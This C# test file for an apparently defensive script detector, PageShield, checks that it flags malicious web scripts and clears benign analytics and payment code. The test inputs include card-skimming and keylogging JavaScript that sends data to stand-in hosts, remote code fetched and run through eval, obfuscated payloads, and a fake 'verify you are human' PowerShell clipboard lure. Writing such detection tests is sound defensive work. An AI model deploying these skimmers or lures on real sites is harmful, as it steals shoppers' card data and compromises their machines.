using PageShield.Detection;
using PageShield.Inventory;

namespace PageShield.Tests.Detection;

/// <summary>Each rule on behaviour of our own writing: what it must condemn, and the honest code next to it.</summary>
public sealed class StaticRuleTests
{
    private static readonly ScriptJudge Judge = new();

    [Theory]
    [InlineData("card-fields-sent", """
        document.getElementById('place-order').addEventListener('click', function () {
            var stolen = { n: document.querySelector('#card_number').value, c: document.querySelector('[name="cvv"]').value };
            fetch('https://metrics-collect.example/a', { method: 'POST', body: JSON.stringify(stolen) });
        });
        """)]
    [InlineData("fields-sent", """
        if (/checkout/.test(location.href)) setInterval(function () {
            var fields = document.querySelectorAll('input, select'), out = '';
            for (var i = 0; i < fields.length; i++) out += fields[i].name + '=' + fields[i].value + '&card=';
            if (/[0-9]{13,16}/.test(out)) new Image().src = 'https://pixel.example/i.gif?d=' + btoa(out);
        }, 500);
        """)]
    [InlineData("keystrokes-sent", """
        var typed = '', socket = new WebSocket('wss://keys.example/in');
        document.addEventListener('keydown', function (e) { typed += e.key; socket.send(btoa(typed)); });
        setInterval(function () { if (navigator.userAgent) debugger; }, 900);
        """)]
    [InlineData("code-from-server", """
        (function () {
            if (document.referrer.indexOf(location.hostname) !== -1 || document.cookie.indexOf('seen=') !== -1) return;
            var x = new XMLHttpRequest();
            x.onreadystatechange = function () { if (x.readyState === 4) eval(x.responseText); };
            x.open('GET', 'https://one.example/t?' + Math.random(), true); x.send();
        })();
        """)]
    [InlineData("code-from-picture", """
        var c = document.createElement('canvas').getContext('2d'), p = c.getImageData(0, 0, 9, 9).data, s = '';
        for (var i = 0; i < p.length; i += 4) s += String.fromCharCode(p[i]);
        new Function(s)();
        """)]
    [InlineData("hidden-frame", """
        if (document.cookie.indexOf('v=1') < 0) {
            document.cookie = 'v=1';
            document.write('<div style="position:absolute;left:-4000px"><iframe src="http://landing.example/gate"></iframe></div>');
        }
        """)]
    [InlineData("clipboard-command", """
        document.body.innerHTML = '<p>Verify you are human: press Win + R, then CTRL + V</p>';
        navigator.clipboard.writeText('powershell -w hidden -c "iwr https://x.example | iex"');
        """)]
    public void Malicious_behaviour_is_condemned_and_named(string rule, string source)
    {
        var judgement = Judge.Judge(new ScriptInput { Source = source });

        Assert.Contains(judgement.Findings, finding => finding.Rule == rule && finding.Line > 0 && finding.Evidence.Length > 0);
        Assert.Equal((VerdictKind.Malicious, true), (judgement.Verdict, judgement.Score < 10));
    }

    [Theory]
    // A shop's own form goes to the shop.
    [InlineData("$('#checkout').on('submit', function (e) { e.preventDefault(); $.ajax({ url: $(this).attr('action'), type: 'POST', data: $(this).serialize() }); });")]
    // A payment library sends cards to its vendor.
    [InlineData("function tokenize(form) { return fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: new FormData(form) }); }")]
    // Analytics sends the page's address to a fixed host.
    [InlineData("new Image().src = 'https://stats.example/p.gif?u=' + encodeURIComponent(location.href) + '&r=' + encodeURIComponent(document.referrer);")]
    // Validation reads card numbers and sends nothing.
    [InlineData("function valid() { var n = document.getElementById('card_number').value.replace(/\\D/g, ''); return /^[0-9]{13,16}$/.test(n); }")]
    // A tag manager loads tags.
    [InlineData("(function () { var s = document.createElement('script'); s.async = true; s.src = 'https://tags.example/t.js'; document.head.appendChild(s); })();")]
    // Keyboard shortcuts.
    [InlineData("document.addEventListener('keydown', function (e) { if (e.key === 'Escape') document.body.className = ''; });")]
    // A copy button.
    [InlineData("document.querySelector('#copy').onclick = function () { navigator.clipboard.writeText(location.href); };")]
    [InlineData("eval('1 + 1');")]
    [InlineData("{\"json\": [1, 2, {\"eval\": true}]}")]
    public void Honest_code_stays_clean(string source) =>
        Assert.Equal(VerdictKind.Clean, Judge.Judge(new ScriptInput { Source = source }).Verdict);

    [Theory]
    // Analytics knows its visitors by an identifier of its own, kept in a cookie, and sends it to the host that it came from.
    [InlineData("""
        (function (w, d) {
            var port = location.port ? ':' + location.port : '', endpoint = '//metrics.localhost' + port + '/collect', queue = [];
            function read(name) { var found = d.cookie.match(new RegExp('(?:^|; )' + name + '=([^;]*)')); return found ? found[1] : ''; }
            function visitor() { var id = read('_m'); if (!id) { id = Math.random().toString(36).slice(2); d.cookie = '_m=' + id + ';path=/'; } return id; }
            function flush() {
                var body = JSON.stringify({ id: visitor(), page: location.pathname, from: d.referrer.split('?')[0], events: queue.splice(0) });
                navigator.sendBeacon ? navigator.sendBeacon(endpoint, body) : fetch(endpoint, { method: 'POST', body: body });
            }
            w.addEventListener('scroll', function () { queue.push({ n: 'scroll', y: w.scrollY }); });
            d.addEventListener('visibilitychange', flush);
        })(window, document);
        """)]
    [InlineData("""
        var id = (document.cookie.match(/_uid=([^;]+)/) || [])[1] || localStorage.getItem('_uid');
        fetch('https://stats.example/v1/hit.gif', { method: 'POST', body: encodeURIComponent(JSON.stringify({ id: id, u: location.href, a: navigator.userAgent })) });
        """)]
    // A tag manager chooses tags by page and loads them from hosts with the page's own port.
    [InlineData("""
        (function (w, d) {
            var port = location.port ? ':' + location.port : '';
            var tags = [{ on: /./, src: 'http://metrics.localhost' + port + '/t.js?property=1' }, { on: /^\/p\//, src: 'http://reviews.localhost' + port + '/w.js' }];
            function fire(tag) { var e = d.createElement('script'); e.async = true; e.src = tag.src; (d.head || d.documentElement).appendChild(e); }
            tags.filter(function (tag) { return tag.on.test(location.pathname); }).forEach(fire);
            (w.dataLayer = w.dataLayer || []).push({ event: 'loaded' });
        })(window, document);
        """)]
    public void Analytics_and_tag_managers_are_well_clear_of_suspicion(string source)
    {
        var judgement = Judge.Judge(new ScriptInput { Source = source });

        Assert.Equal(VerdictKind.Clean, judgement.Verdict);
        Assert.InRange(judgement.Score, 60, 99);
    }

    [Fact]
    public void Decoded_strings_stand_in_the_evidence()
    {
        var inner = "var i=new Image();i.src='https://drop.example/x.gif?c='+document.getElementById('cc_number').value;";
        var source = $"eval(atob('{Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(inner))}'))";

        var judgement = Judge.Judge(new ScriptInput { Source = source });

        Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
        Assert.Contains(judgement.Findings, finding => finding.Evidence.Contains("https://drop.example/x.gif", StringComparison.Ordinal));
    }

    [Fact]
    public void A_rotated_string_table_is_seen_through()
    {
        const string Source = """
            function _t() { var t = ['#cardnumber', 'value', 'https://collect.example/i.png?', 'querySelector']; _t = function () { return t; }; return _t(); }
            function _d(i) { i = i - 16; return _t()[i]; }
            (function (f, n) { var t = f(); while (n--) t.push(t.shift()); })(_t, 2);
            setInterval(function () { new Image().src = _d(16) + document[_d(17)](_d(18))[_d(19)]; }, 800);
            """;

        var judgement = Judge.Judge(new ScriptInput { Source = Source });

        Assert.Contains(judgement.Findings,
            finding => finding.Rule == "card-fields-sent" && finding.Title.Contains("collect.example", StringComparison.Ordinal));
        Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
    }

    [Theory]
    [InlineData("")]
    [InlineData("\0\u0001\uFEFF\uD800")]
    [InlineData("<html><script>while(")]
    [InlineData("function(){ return 1 }")]
    public void Broken_input_is_judged_without_complaint(string source) =>
        Assert.InRange(Judge.Judge(new ScriptInput { Source = source }).Score, 50, 99);

    [Fact]
    public void Deep_nesting_is_survived()
    {
        var deep = new string('(', 20_000) + "1" + new string(')', 20_000) + ";" + string.Concat(Enumerable.Repeat("f(", 5_000))
            + new string(')', 5_000);

        Assert.InRange(Judge.Judge(new ScriptInput { Source = deep }).Score, 50, 99);
    }

    [Fact]
    public void An_endless_decoder_ends()
    {
        const string Source = "function d(x) { while (true) { x = x + String.fromCharCode(65); if (x.length > 5) x = 'a'; } } eval(d('a'));";

        Assert.InRange(Judge.Judge(new ScriptInput { Source = Source }).Score, 1, 99);
    }
}
